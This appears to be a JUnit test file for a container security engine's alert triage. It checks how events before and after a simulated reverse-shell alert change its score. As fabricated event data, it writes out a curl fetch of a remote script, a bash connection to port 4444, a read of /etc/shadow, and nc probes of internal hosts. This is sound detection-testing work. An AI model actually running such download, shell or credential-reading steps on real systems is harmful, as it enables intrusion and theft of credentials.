package io.hivesec.triage;

import static org.assertj.core.api.Assertions.assertThat;

import io.hivesec.Hive;
import io.hivesec.alert.Alert;
import io.hivesec.alert.AlertType;
import io.hivesec.alert.Confidence;
import io.hivesec.alert.Finding;
import io.hivesec.alert.Report;
import io.hivesec.alert.Rule;
import io.hivesec.alert.Triage;
import io.hivesec.event.Container;
import io.hivesec.event.Context;
import io.hivesec.event.Endpoint;
import io.hivesec.event.Event;
import io.hivesec.event.FileOpened;
import io.hivesec.event.FileWritten;
import io.hivesec.event.NetworkConnected;
import io.hivesec.event.OpenFlags;
import io.hivesec.event.Process;
import io.hivesec.event.ProcessStarted;
import io.hivesec.history.ContainerHistory;
import io.hivesec.spi.Detector;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/** What happens around an alert moves its triage, before it and after it. */
final class SurroundingsTest {
    private static final Instant START = Instant.parse("2026-01-02T03:04:05Z");
    private static final Container WEB = Container.of("c1", "web-1", "example/web:1");
    private static final Rule SHELL = Rule.of("test.shell", AlertType.REVERSE_SHELL)
            .confidence(Confidence.MEDIUM)
            .techniques("T1059")
            .build();
    private static final Rule MINER = Rule.of("test.miner", AlertType.MALICIOUS_COMMAND)
            .techniques("T1496")
            .build();

    /** Any connection to port 4444 is a shell; any program called miner mines. */
    private static final class Shells implements Detector {
        @Override
        public String id() {
            return "shells";
        }

        @Override
        public Set<Rule> rules() {
            return Set.of(SHELL, MINER);
        }

        @Override
        public List<Finding> inspect(Event event, ContainerHistory history) {
            if (event instanceof NetworkConnected connected
                    && connected.target().port() == 4444) {
                return List.of(
                        Finding.builder(SHELL, event).target(connected.target()).build());
            }
            return event instanceof ProcessStarted && event.process().name().equals("miner")
                    ? List.of(MINER.finding(event))
                    : List.of();
        }
    }

    private final Hive hive = Hive.builder().detector(new Shells()).build();

    @AfterEach
    void close() {
        hive.close();
    }

    private static Context at(int second, int pid, String executable, String... arguments) {
        return Context.of(
                START.plusSeconds(second),
                WEB,
                Process.builder()
                        .pid(pid)
                        .executable(executable)
                        .arguments(arguments)
                        .build());
    }

    private Report run(int second, int pid, String executable, String... arguments) {
        return hive.inspect(new ProcessStarted(at(second, pid, executable, arguments)));
    }

    private Report open(int second, String path) {
        return hive.inspect(new FileOpened(at(second, 9, "/bin/cat"), path, OpenFlags.READ));
    }

    private Report write(int second, String path) {
        return hive.inspect(new FileWritten(at(second, 5, "/usr/bin/curl"), path, OpenFlags.WRITE));
    }

    private Report connect(int second, String executable, String ip, int port) {
        return hive.inspect(
                new NetworkConnected(at(second, 7, executable), "tcp", Endpoint.UNKNOWN, Endpoint.of(ip, port), 3));
    }

    private Alert shell(int second) {
        return connect(second, "/bin/bash", "203.0.113.9", 4444).alerts().get(0);
    }

    private static Optional<Triage.Signal> signal(Alert alert, String name) {
        return alert.triage().signals().stream()
                .filter(signal -> signal.name().equals(name))
                .findFirst();
    }

    @Test
    void download_before_isASignalWithItsCommandAndTime() {
        run(0, 5, "/usr/bin/curl", "curl", "http://203.0.113.9/a.sh");
        assertThat(signal(shell(30), "download-before").orElseThrow().detail())
                .contains("curl http://203.0.113.9/a.sh", "2026-01-02T03:04:05Z");
    }

    @Test
    void download_longBefore_isNone() {
        run(0, 5, "/usr/bin/curl", "curl", "http://203.0.113.9/a.sh");
        assertThat(signal(shell(700), "download-before")).isEmpty();
    }

    @Test
    void healthCheck_before_isNoDownload() {
        run(0, 5, "/usr/bin/curl", "curl", "http://localhost/health");
        assertThat(signal(shell(30), "download-before")).isEmpty();
    }

    @Test
    void credentialRead_after_revisesTheSameAlert() {
        Alert shell = shell(0);
        Report report = open(20, "/etc/shadow");
        assertThat(report.alerts()).singleElement().satisfies(alert -> {
            assertThat(alert.id()).isEqualTo(shell.id());
            assertThat(alert.revision()).isEqualTo(2);
            assertThat(alert.triage().probability())
                    .isGreaterThan(shell.triage().probability());
            assertThat(signal(alert, "after-credential-read").orElseThrow().detail())
                    .contains("cat read /etc/shadow");
        });
        assertThat(hive.alerts().find(shell.id()).orElseThrow().revision()).isEqualTo(2);
    }

    @Test
    void credentialRead_again_isNoNews() {
        shell(0);
        open(20, "/etc/shadow");
        assertThat(open(21, "/etc/shadow").alerts()).isEmpty();
    }

    @Test
    void credentialRead_afterTheWindow_revisesNothing() {
        shell(0);
        assertThat(open(601, "/etc/shadow").alerts()).isEmpty();
    }

    @Test
    void ordinaryRead_after_revisesNothing() {
        shell(0);
        assertThat(open(20, "/etc/hosts").alerts()).isEmpty();
    }

    @Test
    void whoami_after_isReconnaissance() {
        shell(0);
        assertThat(signal(run(5, 11, "/usr/bin/whoami").alerts().get(0), "after-reconnaissance"))
                .isPresent();
    }

    @Test
    void threeNewPeers_after_areLateralMovement() {
        shell(0);
        assertThat(connect(5, "/usr/bin/nc", "10.0.0.2", 22).alerts()).isEmpty();
        assertThat(connect(6, "/usr/bin/nc", "10.0.0.3", 22).alerts()).isEmpty();
        Alert revised = connect(7, "/usr/bin/nc", "10.0.0.4", 22).alerts().get(0);
        assertThat(signal(revised, "new-peers").orElseThrow().detail())
                .contains("10.0.0.2:22", "10.0.0.3:22", "10.0.0.4:22");
    }

    @Test
    void anotherAlert_ofTheContainer_correlatesBothWays() {
        shell(0);
        Report report = run(10, 12, "/usr/bin/miner");
        assertThat(report.alerts())
                .hasSize(2)
                .allSatisfy(
                        alert -> assertThat(signal(alert, "correlated-alerts")).isPresent());
    }

    @Test
    void executable_thatTheContainerWrote_isAHardIndicator() {
        write(0, "/opt/dropped");
        Alert alert = connect(5, "/opt/dropped", "127.0.0.1", 4444).alerts().get(0);
        assertThat(signal(alert, "executable-not-from-image")).isPresent();
        assertThat(alert.triage().probability()).isGreaterThanOrEqualTo(0.5);
        assertThat(signal(alert, "hard-indicator")).isPresent();
    }

    @Test
    void benignSignals_together_areCapped() {
        Alert alert = connect(5, "/bin/bash", "127.0.0.1", 4444).alerts().get(0);
        assertThat(signal(alert, "target-scope").orElseThrow().decibans()).isEqualTo(-25);
        assertThat(alert.triage().band()).isEqualTo(Triage.Band.LOW);
    }

    @Test
    void sameTarget_fromMostReplicas_speaksForInnocence() {
        for (String replica : List.of("c2", "c3", "c4")) {
            Container container = Container.of(replica, replica, WEB.image());
            Context context = Context.of(
                    START,
                    container,
                    Process.builder().pid(3).executable("/bin/bash").build());
            hive.inspect(new NetworkConnected(context, "tcp", Endpoint.UNKNOWN, Endpoint.of("203.0.113.9", 4444), 3));
        }
        Alert alert = shell(200);
        assertThat(signal(alert, "edge-of-most-replicas").orElseThrow().decibans())
                .isEqualTo(-8);
        assertThat(signal(alert, "target-first-seen")).isEmpty();
    }

    @Test
    void target_thatTheImageNeverReached_isFirstSeen() {
        connect(0, "/usr/sbin/app", "10.0.0.2", 5432);
        assertThat(signal(shell(180), "target-first-seen")).isPresent();
    }

    @Test
    void target_ofAnImageHardlyWatched_isNotChecked() {
        assertThat(shell(0).triage().notChecked()).anyMatch(what -> what.contains("new for this image"));
    }

    @Test
    void counterfactual_leavesTheStrongestSignalOut() {
        Triage triage = shell(0).triage();
        Triage.Counterfactual without = triage.counterfactual();
        assertThat(without).isNotNull();
        assertThat(without.without()).isEqualTo("target-scope");
        assertThat(without.probability()).isLessThan(triage.probability());
    }

    @Test
    void snapshot_restored_revisesAsBefore() throws Exception {
        Alert shell = shell(0);
        try (Hive other = Hive.builder().detector(new Shells()).build()) {
            other.restore(hive.snapshot());
            Report report = other.inspect(new FileOpened(at(20, 9, "/bin/cat"), "/etc/shadow", OpenFlags.READ));
            assertThat(report.alerts()).extracting(Alert::id).containsExactly(shell.id());
        }
    }
}
